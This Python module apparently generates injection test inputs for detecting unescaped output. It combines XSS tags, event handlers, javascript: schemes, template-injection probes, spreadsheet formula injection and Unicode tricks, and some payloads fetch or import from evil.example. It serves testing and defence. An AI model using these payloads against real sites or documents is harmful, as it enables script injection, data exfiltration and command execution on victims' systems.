"""Texts by which somebody outside could try to run something: made from a grammar, each with a mark of its own."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import count

MARK = "pwn"
_TAGS = (
    "script",
    "img",
    "svg",
    "iframe",
    "a",
    "body",
    "input",
    "details",
    "math",
    "object",
    "style",
    "form",
    "b",
    "math",
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "ONERROR",
    "OnLoad",
)
_CALLS = (
    "alert({m})",
    "confirm`{m}`",
    "fetch('//evil.example/{m}')",
    "top['al'+'ert']({m})",
    "import('//e.example/{m}')",
)
_BREAKS = ('">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</svg>", "`>", '"', "' ", "")
_SPACES = (" ", "/", "\t", "\n", "\x0c", " \x00", "\u00a0")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
    "&#106;avascript:",
)
_TEMPLATES = (
    "{{{{1337*1337}}}}{m}",
    "{{% import os %}}{m}",
    "${{1337*1337}}{m}",
    "<%= 1337*1337 %>{m}",
    "#{{1337*1337}}{m}",
    "%(x)s%n{m}",
    "{{0.__class__}}{m}",
)
_CELLS = ("={c}", "+{c}", "-{c}", "@{c}", "\t={c}", "a;={c}", "\r\n={c}", " ={c}", "＝{c}", "'={c}")
_FORMULAS = ("cmd|'/C calc'!A{n}", 'HYPERLINK("http://evil.example/{m}","{m}")', "1+1+{n}", 'SUM(A1:A9)&"{m}"')
_SIGNS = (
    "\u202e{m}\u202c",
    "\u2066{m}\u2069",
    "\u200f{m}",
    "{m}\u0000",
    "\ufeff{m}",
    "\u2028{m}",
    "{m}\U0001f4a9",
    "é\u0301{m}",
)
_ENCODED = ("&lt;script&gt;{m}", "&#x3c;img src=x onerror={m}&#x3e;", "%3Cscript%3E{m}", "\\u003cscript\\u003e{m}", "+ADw-script+AD4-{m}", "\\x3csvg/onload={m}>")  # fmt: skip


def payloads(seed: int) -> Iterator[str]:
    """Ever new ones; the mark with its number stands in each."""
    by = random.Random(seed)
    for number in count():
        mark = f"{MARK}{number}x"
        yield by.choice((_element, _element, _element, _link, _template, _cell, _sign, _encoded, _attribute))(by, mark)


def _element(by: random.Random, mark: str) -> str:
    call = by.choice(_CALLS).format(m=mark)
    tag = by.choice(_TAGS)
    if tag in ("script", "style"):
        return f"{by.choice(_BREAKS)}<{tag}>{call}</{tag}>{mark}"
    space = by.choice(_SPACES)
    return f"{by.choice(_BREAKS)}<{tag}{space}src=x{space}{by.choice(_EVENTS)}={call}{by.choice(('>', '', ' x=', '//'))}{mark}"


def _attribute(by: random.Random, mark: str) -> str:
    quote = by.choice(('"', "'", "`", ""))
    return f"{mark}{quote} {by.choice(_EVENTS)}={quote}{by.choice(_CALLS).format(m=mark)}{quote} autofocus tabindex={quote}1"


def _link(by: random.Random, mark: str) -> str:
    target = by.choice(_SCHEMES) + by.choice(_CALLS).format(m=mark)
    return by.choice((target, f'<a href="{target}">{mark}</a>', f"[{mark}]({target})", f"<base href='{target}'>{mark}"))


def _template(by: random.Random, mark: str) -> str:
    return by.choice(_TEMPLATES).format(m=mark)


def _cell(by: random.Random, mark: str) -> str:
    formula = by.choice(_FORMULAS).format(m=mark, n=by.randrange(99))
    return by.choice(_CELLS).format(c=formula) + mark


def _sign(by: random.Random, mark: str) -> str:
    return by.choice(_SIGNS).format(m=mark) + by.choice(("", "<script>", '"', "' onerror=1"))


def _encoded(by: random.Random, mark: str) -> str:
    return by.choice(_ENCODED).format(m=mark)
